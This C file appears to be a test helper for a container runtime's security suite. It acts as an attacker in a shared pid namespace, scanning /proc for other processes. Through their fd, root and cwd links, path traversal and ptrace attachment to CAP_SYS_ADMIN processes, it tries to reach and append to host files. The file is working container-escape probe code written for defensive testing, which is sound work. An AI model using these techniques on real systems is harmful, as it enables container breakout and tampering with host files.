/* tests/helpers/proc-peeker.c — the attacker of a shared pid namespace that
 * reaches the host through another process's /proc entries
 * (tests/security/test_joined_pidns.sh).
 *
 *   proc-peeker DIR MARKER DOORS
 *
 * Runs in a container with CAP_SYS_PTRACE (ptrace_may_access then lets it into
 * /proc/<pid>/fd, root and cwd of any process of its user namespace, dumpable or
 * not). It scans /proc without pause and, for every other process it sees, tries
 * the doors named in DOORS (a comma list) to the host file MARKER (an absolute
 * host path, outside any container's root):
 *   fd    /proc/<pid>/fd/N/1/root/MARKER          (N a procfs: the host's pid 1)
 *         /proc/<pid>/fd/N/../../(...)/MARKER     (N any directory of the host)
 *         and N itself when it is a regular file: "PWNED" appended to it
 *   root  /proc/<pid>/root/MARKER
 *   cwd   /proc/<pid>/cwd/../../(...)/MARKER
 *   caps  a process seen with CAP_SYS_ADMIN in its effective set, in our user
 *         namespace (the container it joins has none) is attached with
 *         PTRACE_SEIZE: whoever attaches it can make it run anything with its
 *         capabilities (got.caps says which)
 * What it gets is written to DIR/got.<door> (the marker's first line, or the
 * file it appended to) and "PWNED via <door>" is appended to the marker. Each
 * pid it peeks at for the first time is appended to DIR/seen. It writes
 * DIR/ready once its first scan is done and runs until killed. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define UP "../../../../../../../../../../../../../../../.."

static const char *dir, *marker;
static int doors_fd, doors_root, doors_cwd, doors_caps;

static void report_to(const char *name, const char *what)
{
	char path[4096];
	FILE *f;

	snprintf(path, sizeof path, "%s/%s", dir, name);
	f = fopen(path, "a");
	if (f) {
		fprintf(f, "%s\n", what);
		fclose(f);
	}
}

static void report(const char *door, const char *what)
{
	char name[64];

	snprintf(name, sizeof name, "got.%s", door);
	report_to(name, what);
}

/* path reaches the marker: read it, mark it, say so. */
static void try_marker(const char *door, const char *path)
{
	char buf[256] = "";
	ssize_t n;
	int fd = open(path, O_RDWR | O_APPEND | O_CLOEXEC);

	if (fd < 0)
		return;
	n = read(fd, buf, sizeof buf - 1);
	buf[n > 0 ? n : 0] = '\0';
	buf[strcspn(buf, "\n")] = '\0';
	dprintf(fd, "PWNED via %s (%s)\n", door, path);
	close(fd);
	report(door, buf);
}

/* A regular file held by the process (a log, say): append to it. */
static void try_file(const char *path)
{
	char target[4096], what[8192];
	ssize_t n = readlink(path, target, sizeof target - 1);
	int fd;

	if (n <= 0)
		return;
	target[n] = '\0';
	fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC | O_NONBLOCK);
	if (fd < 0)
		return;
	if (write(fd, "PWNED via fd\n", 13) == 13) {
		snprintf(what, sizeof what, "wrote %s", target);
		report("fd", what);
	}
	close(fd);
}

static void try_fds(int pid)
{
	char path[8192], fds[64];
	struct dirent *e;
	struct stat st;
	DIR *d;

	snprintf(fds, sizeof fds, "/proc/%d/fd", pid);
	d = opendir(fds);
	if (!d)
		return;
	while ((e = readdir(d))) {
		/* 0-2: the caller's stdio, the container's by design */
		if (e->d_name[0] == '.' || atoi(e->d_name) < 3)
			continue;
		snprintf(path, sizeof path, "%s/%s", fds, e->d_name);
		if (stat(path, &st) < 0)
			continue;
		if (S_ISREG(st.st_mode)) {
			try_file(path);
			continue;
		}
		if (!S_ISDIR(st.st_mode))
			continue;
		snprintf(path, sizeof path, "%s/%s/1/root%s", fds, e->d_name, marker);
		try_marker("fd", path);
		snprintf(path, sizeof path, "%s/%s/" UP "%s", fds, e->d_name, marker);
		try_marker("fd", path);
	}
	closedir(d);
}

#define MAX_PIDS 65536
static char seen[MAX_PIDS];

/* CapEff of pid, 0 when unreadable. */
static unsigned long long cap_eff(int pid)
{
	char path[64], line[256];
	unsigned long long caps = 0;
	FILE *f;

	snprintf(path, sizeof path, "/proc/%d/status", pid);
	f = fopen(path, "re");
	if (!f)
		return 0;
	while (fgets(line, sizeof line, f))
		if (sscanf(line, "CapEff: %llx", &caps) == 1)
			break;
	fclose(f);
	return caps;
}

/* Capabilities count over the process's own user namespace: in a child of
 * ours they reach nothing of the host. */
static int in_my_userns(int pid)
{
	char path[64], mine[64] = "", theirs[64] = "";

	snprintf(path, sizeof path, "/proc/%d/ns/user", pid);
	if (readlink("/proc/self/ns/user", mine, sizeof mine - 1) < 0 ||
	    readlink(path, theirs, sizeof theirs - 1) < 0)
		return 0;
	return strcmp(mine, theirs) == 0;
}

static void try_caps(int pid)
{
	unsigned long long caps = cap_eff(pid);
	char what[128];

	if (!(caps & (1ULL << 21)) || !in_my_userns(pid)) /* CAP_SYS_ADMIN over what I see */
		return;
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return;
	snprintf(what, sizeof what, "attached pid %d with CapEff %llx", pid, caps);
	report("caps", what);
	/* detach needs a stopped tracee: stop it first */
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0)
		waitpid(pid, NULL, __WALL);
	ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void peek(int pid)
{
	char path[8192];

	if (pid < MAX_PIDS && !seen[pid]) {
		snprintf(path, sizeof path, "%d", pid);
		seen[pid] = 1;
		report_to("seen", path);
	}
	if (doors_caps)
		try_caps(pid);

	if (doors_fd)
		try_fds(pid);
	if (doors_root) {
		snprintf(path, sizeof path, "/proc/%d/root%s", pid, marker);
		try_marker("root", path);
	}
	if (doors_cwd) {
		snprintf(path, sizeof path, "/proc/%d/cwd/" UP "%s", pid, marker);
		try_marker("cwd", path);
	}
}

static void scan(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;

	if (!d)
		return;
	while ((e = readdir(d))) {
		int pid = atoi(e->d_name);
		if (pid > 0 && pid != getpid())
			peek(pid);
	}
	closedir(d);
}

int main(int argc, char **argv)
{
	char path[4096];

	if (argc != 4 || argv[2][0] != '/')
		return 2;
	dir = argv[1];
	marker = argv[2];
	doors_fd = strstr(argv[3], "fd") != NULL;
	doors_root = strstr(argv[3], "root") != NULL;
	doors_cwd = strstr(argv[3], "cwd") != NULL;
	doors_caps = strstr(argv[3], "caps") != NULL;
	scan();
	snprintf(path, sizeof path, "%s/ready", dir);
	close(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
	for (;;)
		scan();
}
